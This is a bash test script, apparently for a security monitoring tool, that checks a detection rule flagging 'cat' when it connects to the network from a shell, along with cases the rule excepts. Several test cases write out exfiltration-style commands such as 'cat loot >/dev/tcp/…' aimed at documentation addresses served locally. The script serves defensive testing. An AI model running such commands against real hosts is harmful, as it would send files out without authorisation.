# SPDX-License-Identifier: GPL-2.0-or-later
# cat that talks to the network: whoever connects first, bash or cat itself.
. /tocsin/tests/live/lib.sh
rule=$(rule_id cat_network_activity) rule_short=cat
out=2001:db8::1 loot=$live/loot

echo secret >$loot
serve() { # PROTO PORT [MS]: on all addresses, v4 and v6
	: >$live/serving.$2
	ACT=$(words serve "$1" :: "${@:2}") ACT_LOG= "$act" >$live/serving.$2 &
	wait_until 5 grep -q serving $live/serving.$2
}
serve tcp 7001       # takes all and waits for the client to close
serve tcp 7002 0     # closes at once
serve tcp 7003 300   # closes after a while
serve udp 7004
watch_start --record $trace

# sends PROTO HOST PORT: what bash makes of `cat loot >/dev/PROTO/HOST/PORT`.
sends() {
	local parent=$BASHPID
	(
		note "$BASHPID" "$parent" cat
		exec cat $loot >"/dev/$1/$2/$3"
	)
}
# sends_from SHELL …: the same, with a shell of that name as the parent.
sends_from() {
	[ -e $bin/$1 ] || cp /bin/bash $bin/$1
	$bin/$1 -c '
		(
			echo "$ACT_TAG $BASHPID $$ cat" >>$ACT_LOG
			exec cat '$loot' >/dev/'"$2/$3/$4"'
		); :'
}

# The rule wants both within a second. Was it none of cat's doing, or more?
came_late() { # TAG
	local pids
	pids=$(grep "^$1 " $ACT_LOG | cut -d' ' -f2 | paste -sd,)
	traced @timestamp '
		def s: (.[:19] + "Z" | fromdate) + ("0" + .[19:-1] | tonumber);
		map(select([.process.pid] | inside($pids))) |
		(map(select(.event.action == "exec" and .process.name == "cat"))[0]
			."@timestamp" | s) as $began |
		map(select(.event.action == "disconnect_received" or
			.event.action == "connection_attempted" and
			.process.name == "cat") |
			(."@timestamp" | s) - $began) |
		length > 0 and all(.[]; . < 0 or . > 1)' \
		--argjson pids "[$pids]"
}

alert cat bash root 'TCP: bash connects, then execs cat' 'sends tcp $out 7001'
alert cat bash root 'UDP: bash connects, then execs cat' 'sends udp $out 7004'
alert cat bash root 'TCP over IPv4' 'sends tcp 0.113.0.1 7001'
alert cat bash root 'UDP over IPv4' 'sends udp 0.113.0.1 7004'
alert cat bash root 'a peer that closes at once' 'sends tcp $out 7002'
for shell in dash sh tcsh csh zsh ksh fish; do
	alert cat $shell root "from $shell" "sends_from $shell tcp $out 7001"
done
alert cat bash root 'the shell connects, cat inherits its input' 'exec 3<>/dev/tcp/$out/7002; parent=$BASHPID; ( note $BASHPID $parent cat; exec cat <&3 )'
alert cat bash root 'the shell connects, cat inherits its output' 'exec 3<>/dev/tcp/$out/7001; parent=$BASHPID; ( note $BASHPID $parent cat; exec cat $loot >&3 )'
alert cat bash root 'UDP, inherited' 'exec 3<>/dev/udp/$out/7004; parent=$BASHPID; ( note $BASHPID $parent cat; exec cat $loot >&3 )'
alert cat bash root 'cat connects by itself' 'as $bin/cat connect tcp $out 7001'
alert cat bash root 'cat connects by itself, UDP' 'as $bin/cat connect udp $out 7004'
alert cat bash root 'cat sends a datagram without connect' 'as $bin/cat sendto $out 7004'
alert cat bash root 'cat sends a datagram, IPv4' 'as $bin/cat sendto 0.113.0.1 7004'
alert cat bash root 'cat is refused: an attempt all the same' 'as $bin/cat connect tcp $out 9'
alert cat bash root 'a unique local address: not excepted' 'as $bin/cat connect tcp fd00::1 7001'
alert cat bash root 'a third of a second later: within the span' 'acts $bin/cat "sleep 333" "connect tcp $out 7001"'
alert cat bash root 'several connections: one alert' 'acts $bin/cat "connect tcp $out 7001" "connect tcp $out 7001" "connect udp $out 7004"'
alert cat bash alice 'as another user' 'acts $bin/cat "uid 1000" "connect tcp $out 7001"'
alert cat bash root 'disconnect received on an old socket' 'actor $bin/cat; ACT_1="recv	7" acts $bin/holder "connect tcp $out 7003" "dup 7" "exec $bin/cat cat $T"'

# Addresses that the rule excepts. No packet leaves: all are on lo here.
for to in 10.1.2.3 127.0.0.1 169.254.1.1 172.16.0.1 192.0.0.8 192.0.2.1 \
	192.31.196.1 192.52.193.1 192.168.1.1 192.88.99.1 100.64.0.1 \
	192.175.48.1 198.18.0.1 198.51.100.1 203.0.113.1 240.0.0.1 ::1 fe80::1
do
	quiet "excepted address: $to" "as $bin/cat connect tcp $to 7001"
done
for to in 224.0.0.9 ff02::1; do
	quiet "excepted address: $to" "as $bin/cat connect udp $to 7004"
done
quiet 'excepted address: 0.0.0.0' 'as $bin/cat connect tcp 0.0.0.0 7001'
quiet 'excepted address, bash connects' 'sends tcp 127.0.0.1 7001'
quiet 'excepted address, inherited' 'exec 3<>/dev/tcp/::1/7001; parent=$BASHPID; ( note $BASHPID $parent cat; exec cat $loot >&3 )'
quiet 'cat without a network' 'by cat $loot'
quiet 'another program' 'as $bin/tac connect tcp $out 7001'
quiet 'a name that begins like cat' 'as $bin/catnip connect tcp $out 7001'
quiet 'a name in capitals' 'as $bin/CAT connect tcp $out 7001'
quiet 'the parent is no shell' 'ACT_1=$(words connect tcp $out 7001) starts $bin/python3 -- $bin/cat $T'
quiet 'the parent is a shell of an unlisted name' 'ACT_1=$(words connect tcp $out 7001) starts $bin/ash -- $bin/cat $T'
quiet 'later than the span' 'acts $bin/cat "sleep 1300" "connect tcp $out 7001"'
quiet 'another process of the same shell connects' 'by cat $loot; as $bin/tac connect tcp $out 7001'
quiet 'the shell alone connects' 'self; exec 3<>/dev/tcp/$out/7001; by cat $loot; exec 3>&-'
quiet 'a child of cat connects' 'actor $bin/other; ACT_1=$(words connect tcp $out 7001) as $bin/cat spawn $bin/other other $T'
quiet 'a pipe to a program that connects' 'cat $loot | as $bin/tac connect tcp $out 7001'
quiet 'cat became something else before it connected' 'actor $bin/other; ACT_1=$(words connect tcp $out 7001) as $bin/cat exec $bin/other other $T'

check_table
check_replay
